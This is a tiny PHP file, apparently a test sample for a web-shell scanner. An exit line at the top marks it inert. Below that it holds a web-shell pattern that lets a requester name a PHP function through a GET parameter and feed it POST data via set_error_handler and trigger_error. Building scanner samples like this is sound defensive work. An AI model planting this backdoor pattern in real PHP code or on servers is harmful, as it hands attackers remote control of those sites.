<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
set_error_handler($_GET['h']);
trigger_error($_POST['d']);
